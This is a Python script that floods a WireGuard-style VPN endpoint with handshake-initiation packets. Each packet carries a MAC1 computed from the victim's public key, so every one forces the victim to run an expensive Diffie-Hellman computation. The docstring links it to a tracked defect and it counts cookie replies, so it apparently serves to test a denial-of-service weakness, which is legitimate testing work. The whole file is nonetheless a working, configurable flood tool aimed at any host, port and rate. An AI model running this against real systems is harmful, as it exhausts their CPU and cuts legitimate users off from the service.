#!/usr/bin/env python3
"""A handshake-initiation flood with a valid MAC1 for the victim (issue 13, defect 2).

Usage: flood-initiations.py VICTIM_PUBLIC_KEY_BASE64 HOST PORT RATE SECONDS [SOCKETS]

Each datagram is a 148-byte initiation: type 1, a random sender index, random bytes where the
ephemeral key, encrypted static key and timestamp go (the victim cannot know they are garbage
before a Diffie-Hellman), MAC1 = BLAKE2s-128(key = BLAKE2s-256("mac1----" || victim key)) over
the first 116 bytes, MAC2 zero (no cookie). So every datagram passes MAC1 and, unless the victim
answers with a cookie reply, costs it a Diffie-Hellman. 1,024 distinct messages are precomputed
and sent round-robin from SOCKETS source ports, RATE per second in 5 ms bursts. Prints the number
sent when done (cookie replies are counted by the caller, with nftables).
"""
import base64
import hashlib
import os
import socket
import sys
import time


def messages(victim_key, n):
    mac1_key = hashlib.blake2s(b"mac1----" + victim_key, digest_size=32).digest()
    out = []
    for _ in range(n):
        body = b"\x01\x00\x00\x00" + os.urandom(4 + 32 + 48 + 28)
        mac1 = hashlib.blake2s(body, key=mac1_key, digest_size=16).digest()
        out.append(body + mac1 + bytes(16))
    return out


def main():
    key = base64.b64decode(sys.argv[1])
    host, port = sys.argv[2], int(sys.argv[3])
    rate, seconds = int(sys.argv[4]), float(sys.argv[5])
    nsock = int(sys.argv[6]) if len(sys.argv) > 6 else 16
    msgs = messages(key, 1024)
    socks = []
    for _ in range(nsock):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # replies: counted, not read
        s.connect((host, port))
        socks.append(s)
    burst_interval = 0.005
    per_burst = max(1, round(rate * burst_interval))
    sent = 0
    start = time.perf_counter()
    next_burst = start
    while True:
        now = time.perf_counter()
        if now - start >= seconds:
            break
        if now < next_burst:
            time.sleep(next_burst - now)
        for _ in range(per_burst):
            try:
                socks[sent % nsock].send(msgs[sent % len(msgs)])
            except OSError:
                pass  # ICMP errors from a victim not yet listening, a full buffer
            sent += 1
        next_burst += burst_interval
        if next_burst < time.perf_counter() - 0.1:
            next_burst = time.perf_counter()  # fell behind: do not burst to catch up
    print(sent)


if __name__ == "__main__":
    main()
